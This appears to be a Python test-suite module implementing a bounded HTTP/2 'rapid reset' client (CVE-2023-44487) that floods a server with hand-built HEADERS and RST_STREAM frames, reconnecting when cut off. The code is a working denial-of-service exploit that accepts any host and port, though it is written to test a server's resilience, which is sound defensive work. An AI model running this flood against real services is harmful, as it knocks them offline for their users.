"""A bounded HTTP/2 "rapid reset" client (CVE-2023-44487) for the fault suite: raw frames
over one loopback socket, no HTTP/2 library. It opens request streams with HEADERS and
cancels each at once with RST_STREAM, as fast as the socket takes them, for a fixed time,
and carries no API key, as an attacker would.

The frames are those of RFC 9113 (9-byte frame header; section 4.1) with header blocks in
HPACK's "literal header field without indexing, new name" form (RFC 7541 section 6.2.2),
which needs no table state. The gRPC body framing lives in bench/grpc_frames.py; these
streams never get a body.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
import time
from dataclasses import dataclass
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS: Final = 0x1
_RST_STREAM: Final = 0x3
_SETTINGS: Final = 0x4
_END_HEADERS: Final = 0x4
_ACK: Final = 0x1
_CANCEL: Final = 0x8
# Frames per sendall: large enough to outrun the server, small enough to stop on time.
_BATCH: Final = 200


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream_id & 0x7FFFFFFF)
        + payload
    )


def _literal(name: bytes, value: bytes) -> bytes:
    # Lengths below 127 fit HPACK's 7-bit prefix in one byte.
    assert len(name) < 127
    assert len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def header_block(authority: str, path: str) -> bytes:
    return b"".join(
        _literal(name, value)
        for name, value in (
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", path.encode()),
            (b":authority", authority.encode()),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        )
    )


@dataclass
class AttackResult:
    streams: int = 0  # HEADERS+RST_STREAM pairs sent
    connections: int = 0  # the server closed the connection this many times (then reopened)


def rapid_reset(
    host: str, port: int, *, seconds: float, path: str, stop: threading.Event | None = None
) -> AttackResult:
    """HEADERS+RST_STREAM on new streams of one connection for `seconds` (reconnecting when
    the server closes it); the server's replies are read and dropped on a second thread so
    the attack is never slowed by a full receive window."""
    result = AttackResult()
    ends = time.monotonic() + seconds
    block = header_block(f"{host}:{port}", path)
    while time.monotonic() < ends and not (stop is not None and stop.is_set()):
        result.connections += 1
        with socket.create_connection((host, port), timeout=5) as sock:
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            drain = threading.Thread(target=_drain, args=(sock,), daemon=True)
            drain.start()
            stream_id = 1
            try:
                sock.sendall(PREFACE + frame(_SETTINGS, 0, 0) + frame(_SETTINGS, _ACK, 0))
                while time.monotonic() < ends and stream_id < 0x7FFFFFFF - 2 * _BATCH:
                    batch = bytearray()
                    for _ in range(_BATCH):
                        batch += frame(_HEADERS, _END_HEADERS, stream_id, block)
                        batch += frame(_RST_STREAM, 0, stream_id, struct.pack(">I", _CANCEL))
                        stream_id += 2
                    sock.sendall(batch)
                    result.streams += _BATCH
            except OSError:
                pass  # the server closed the connection (GOAWAY or reset): open another
            finally:
                with contextlib.suppress(OSError):
                    sock.shutdown(socket.SHUT_RDWR)
            drain.join(timeout=5)
    return result


def _drain(sock: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while sock.recv(1 << 16):
            pass
